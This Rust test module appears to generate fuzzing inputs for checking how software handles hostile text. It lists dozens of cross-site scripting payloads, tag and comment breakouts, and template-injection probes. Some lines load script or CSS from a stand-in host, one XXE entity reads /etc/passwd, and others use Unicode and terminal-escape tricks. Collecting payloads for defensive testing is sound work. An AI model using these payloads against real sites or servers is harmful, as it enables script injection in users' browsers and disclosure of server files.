//! Texts that try to become something else than text. Common practice of the web, collected here by kind.
//!
//! In: nothing. Out: more than two hundred texts. Never: a text that is blank.

const BASE: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//example.invalid/x.js></script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<base href=//example.invalid/>",
    "<link rel=stylesheet href=//example.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=//example.invalid/'>",
    "<form action=//example.invalid/><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<style>@import '//example.invalid/x.css';</style>",
    "<div style=background:url(//example.invalid/x)>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&notit; &amp &copy &",
    "javascript:alert(1)",
    "{{7*7}} {% include 'x' %} ${7*7} #{7*7}",
    "\\\"};alert(1);//",
    "'-alert(1)-'",
    "` onmouseover=alert(1) `",
    "x:expression(alert(1))",
    "*/}body{background:url(//example.invalid/)}/*",
    "\\3c script\\3e alert(1)",
    "\u{0}<scr\u{0}ipt>alert(1)</script>",
    "\u{1b}]8;;http://example.invalid\u{7}click\u{1b}]8;;\u{7}",
    "\u{202e}>tpircs<\u{202c}",
    "<\u{200b}script>\u{feff}alert(1)</script>",
    "\u{85}\u{9b}2J\u{7f}",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "\u{fffe}\u{ffff}\u{fdd0}",
    "a\r\nb\nc\td",
];

const BEFORE: &[&str] = &["", "\">", "'>", "\" onclick=\"", "</svg></table></main>"];

/// All of them.
pub(crate) fn texts() -> Vec<String> {
    BASE.iter()
        .flat_map(|base| BEFORE.iter().map(move |before| format!("{before}{base}")))
        .collect()
}
